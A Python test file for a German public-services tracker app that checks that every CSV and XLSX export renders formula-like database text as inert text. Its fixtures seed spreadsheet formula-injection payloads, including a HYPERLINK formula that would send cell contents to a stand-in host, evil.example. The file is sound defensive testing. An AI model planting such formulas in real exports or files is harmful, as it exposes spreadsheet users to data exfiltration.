"""No export hands a spreadsheet a formula: every CSV and XLSX writer goes through
`tracker.tabular`, and every export route of the app, found by walking its routes, writes text
from the database that starts like a formula as inert text."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from hypothesis import given
from hypothesis import strategies as st
from litestar.routes import HTTPRoute
from sqlalchemy import func, select, update
from sqlmodel import col
from sqlmodel.ext.asyncio.session import AsyncSession

from tests.builders import Client, add_token, add_user, bearer, remove_assessments
from tests.maturity.test_routes import ESSEN
from tracker.app import create_app
from tracker.catalog.models import Lebenslage, LeikaLeistung, OzgLeistung, Themenfeld
from tracker.db import run
from tracker.maturity.bulk import COLUMNS, XLSX_MEDIA_TYPE, import_file
from tracker.maturity.models import Assessment
from tracker.regions.models import Gemeinde, Kreis, Land
from tracker.research.models import Finding, Kpi
from tracker.settings import PROJECT_ROOT, Settings
from tracker.tabular import FORMULA_TRIGGERS, csv_text, read_cell, safe_cell, write_xlsx

CSV = "text/csv"
# One payload per table, each with another trigger; the comparison reports will add theirs.
PAYLOADS = {
    Themenfeld: '=HYPERLINK("https://evil.example/?"&A1,"Mehr")',
    Lebenslage: "+SUM(1,1)",
    OzgLeistung: "-2+3",
    LeikaLeistung: "@SUM(1)",
    Land: "\t=1+1",
    Kreis: "\r=1+1",
    Gemeinde: "=1+1",
}
ASSESSMENT = {
    "external_id": '=HYPERLINK("https://evil.example","x")',
    "assessed_by": "@evil",
    "status_comment": "-1+1",
}
PAYLOAD_TEXTS = set(PAYLOADS.values()) | set(ASSESSMENT.values())
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def get_routes() -> list[str]:
    """Every GET route of the app without path parameters: pages, API and exports alike."""
    app = create_app(Settings())
    paths = {
        route.path
        for route in app.routes
        if isinstance(route, HTTPRoute) and "GET" in route.methods and "{" not in route.path
    }
    return sorted(paths)


ROUTES = get_routes()


@given(st.text())
def test_safe_cell_never_starts_a_formula_and_read_cell_undoes_it(text: str) -> None:
    written = safe_cell(text)
    assert not written.startswith(tuple(FORMULA_TRIGGERS))
    assert read_cell(written) == text


@pytest.mark.parametrize("number", [-3, -2.5, 0, 7, 10**20])
def test_numbers_stay_numbers(number: float) -> None:
    assert safe_cell(number) == number
    assert read_cell(number) == number


def test_xlsx_cells_are_strings_numbers_and_dates_never_formulas() -> None:
    moment = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)
    values = ["=1+1", "#N/A", "\x01bell", -3, 2.5, True, date(2026, 3, 1), moment, None]
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx("t", ["a"], [values]))).worksheets[0]
    cells = sheet[2]
    assert [cell.data_type for cell in cells[:8]] == ["s", "s", "s", "n", "n", "b", "d", "s"]
    assert [cell.value for cell in cells[:6]] == ["=1+1", "#N/A", "\ufffdbell", -3, 2.5, True]
    assert cells[7].value == "2026-03-01T10:00:00+00:00"


def test_no_module_writes_csv_or_xlsx_around_tabular() -> None:
    writer = re.compile(r"csv\.writer|DictWriter|Workbook\(|WriteOnlyCell|xlsxwriter")
    offenders = [
        str(path.relative_to(PROJECT_ROOT))
        for path in sorted((PROJECT_ROOT / "tracker").rglob("*.py"))
        if path.name != "tabular.py" and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], "write CSV and XLSX through tracker.tabular"


async def seed_payloads(session: AsyncSession, tmp_path: Path) -> None:
    """A formula-like name in one row of every exported table, and a validated assessment whose
    text fields are formula-like."""
    for table, payload in PAYLOADS.items():
        key = next(iter(table.__table__.primary_key.columns))  # type: ignore[attr-defined]
        first = (await run(session, select(func.min(key)))).scalar_one()
        await run(session, update(table).where(key == first).values(name=payload))
    row = ASSESSMENT | {
        "ars": ESSEN, "ozg_id": "10000", "dimension": "online", "level": "1",
        "assessed_at": "2026-03-01T10:00:00Z", "source": "self",
    }  # fmt: skip
    path = tmp_path / "bewertungen.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=COLUMNS, lineterminator="\n")
        writer.writeheader()
        writer.writerow(row)
    await import_file(session, path)
    # a KPI and a published finding, for the research exports
    now, text = datetime.now(UTC), PAYLOADS[Themenfeld]
    session.add(
        Kpi(
            ozg_id="10000",
            ars=ESSEN,
            kind="visits",
            value=1.0,
            unit="Besuche",
            measured_on=date(2026, 3, 1),
            source=text,
            created_at=now,
            created_by="t",
        )
    )
    session.add(Finding(statement=text, severity=2, confidence="medium", status="open", tags=[],
                        public_statement=text, published_at=now, published_by="t",
                        created_at=now, created_by="t"))  # fmt: skip
    await session.commit()


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(media_type: str, response: Any) -> None:
    if media_type == CSV:
        cells = csv_cells(response.text)
        formulas = [
            cell
            for cell in cells
            if cell.startswith(tuple(FORMULA_TRIGGERS)) and not NUMBER.fullmatch(cell)
        ]
        assert formulas == []
        assert {safe_cell(text) for text in PAYLOAD_TEXTS} & set(cells), "seed this export"
    else:
        workbook = xlsx_cells(response.content)
        assert [cell.coordinate for cell in workbook if cell.data_type == "f"] == []
        texts = {cell.value for cell in workbook if cell.data_type == "s"}
        assert PAYLOAD_TEXTS & texts, "seed this export"


@pytest.mark.parametrize("path", ROUTES)
async def test_every_export_writes_formula_text_as_text(
    client: Client, session: AsyncSession, tmp_path: Path, path: str
) -> None:
    """Each GET route, asked for CSV and for XLSX, anonymously (the public export) and by a
    superadmin (who sees every row): whatever comes as CSV or XLSX holds no formula."""
    await seed_payloads(session, tmp_path)
    admin = await add_user(session, "admin@bund.de", [("superadmin", "")])
    users = {"anonymous": {}, "admin": bearer(await add_token(session, admin))}
    await session.commit()
    for media_type in (CSV, XLSX_MEDIA_TYPE):
        for user, authorization in users.items():
            response = await client.get(path, headers={"Accept": media_type, **authorization})
            if response.headers.get("content-type", "").startswith(media_type):
                assert response.status_code == 200, (user, media_type)
                assert_inert(media_type, response)


async def exports_of(client: Client, media_type: str) -> set[str]:
    found = set()
    for path in ROUTES:
        response = await client.get(path, headers={"Accept": media_type})
        if response.headers.get("content-type", "").startswith(media_type):
            found.add(path)
    return found


async def test_the_walk_finds_the_known_exports(client: Client) -> None:
    """Guards the walk itself: if it found nothing, the test above would prove nothing."""
    api = "/api/v1/"
    assert {api + name for name in ("themenfelder", "lebenslagen", "leistungen", "leika")} | {
        api + name for name in ("laender", "kreise", "gemeinden", "assessments")
    } <= await exports_of(client, CSV)
    assert {api + "assessments"} <= await exports_of(client, XLSX_MEDIA_TYPE)


ROUND_TRIP = [
    {
        "external_id": '=HYPERLINK("https://evil.example","x")',
        "assessed_by": "@evil",
        "status_comment": "-1+1",
    },
    {"external_id": "'=x", "assessed_by": "''+y", "status_comment": "'plain"},
    {"external_id": "plain:1", "assessed_by": "+49 201 88", "status_comment": "=SUM(A1:A9)"},
]


async def current_texts(client: Client) -> dict[str, dict[str, Any]]:
    listed = await client.get("/api/v1/assessments", params={"ars": ESSEN, "limit": 100})
    return {
        item["external_id"]: {name: item[name] for name in ROUND_TRIP[0]}
        for item in listed.json()["items"]
    }


@pytest.mark.parametrize(("media_type", "suffix"), [(CSV, ".csv"), (XLSX_MEDIA_TYPE, ".xlsx")])
async def test_formula_like_text_round_trips_through_export_and_import(
    client: Client, session: AsyncSession, tmp_path: Path, media_type: str, suffix: str
) -> None:
    """The bulk export neutralises such text; importing the export gives back the same text."""
    source = tmp_path / "source.csv"
    rows = [
        [values.get(name, "") for name in COLUMNS]
        for values in (
            {**texts, "ars": ESSEN, "ozg_id": "10000", "dimension": "online", "level": "1",
             "assessed_at": "2026-03-01T10:00:00Z", "source": "self"}
            for texts in ROUND_TRIP
        )
    ]  # fmt: skip
    source.write_text(csv_text(COLUMNS, rows), encoding="utf-8")
    assert (await import_file(session, source)).inserted == len(ROUND_TRIP)
    await session.commit()
    stored = await current_texts(client)
    assert [stored[texts["external_id"]] for texts in ROUND_TRIP] == ROUND_TRIP

    exported = await client.get(
        "/api/v1/assessments", params={"ars": ESSEN}, headers={"Accept": media_type}
    )
    assert_inert(media_type, exported)
    path = tmp_path / f"bewertungen{suffix}"
    path.write_bytes(exported.content)
    again = await import_file(session, path)
    assert (again.inserted, again.unchanged) == (0, len(ROUND_TRIP))  # the same external ids
    ids = [texts["external_id"] for texts in ROUND_TRIP]
    await remove_assessments(session, col(Assessment.external_id).in_(ids))
    assert (await import_file(session, path)).inserted == len(ROUND_TRIP)
    await session.commit()
    assert await current_texts(client) == stored
